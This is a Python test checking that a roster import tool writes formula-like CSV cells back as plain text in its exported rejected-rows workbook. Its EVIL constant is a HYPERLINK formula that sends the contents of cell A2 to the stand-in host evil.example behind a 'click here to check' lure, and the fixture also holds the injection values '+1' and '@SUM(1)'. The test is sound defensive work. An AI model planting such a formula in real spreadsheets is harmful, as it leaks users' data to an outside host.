"""A roster cell typed as a formula ("=HYPERLINK(...)", "+1", "@SUM") comes back in the files
Daishou writes as the text it was: opening the rejected rows in Excel runs nothing."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from app.services.desk import Desk
from tests.factories import signed_agent

HEADER = "证件号码,姓名,险种,缴费年度,缴费档次,人员类别,村民小组,户号,户主姓名,联系电话,缴费状态\n"
EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点此核对")'


def test_formula_cells_of_a_roster_are_written_back_as_text(desk: Desk, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(HEADER + f'341824195711015652,"{EVIL.replace(chr(34), chr(34) * 2)}",城乡居民基本医疗保险,'
                      "2027,,一般,+1,0001,@SUM(1),13231514755,\n", encoding="utf-8")
    result = desk.roster.import_file(roster, by=signed_agent(desk))
    assert len(result.rejected) >= 1
    out = tmp_path / "rejected.xlsx"
    desk.roster.export_rejected_xlsx(result, out)
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml  # no cell is a formula
    cells = [c.value for c in load_workbook(out).active[2]]
    assert EVIL in cells and "+1" in cells and "@SUM(1)" in cells  # kept as typed, to correct
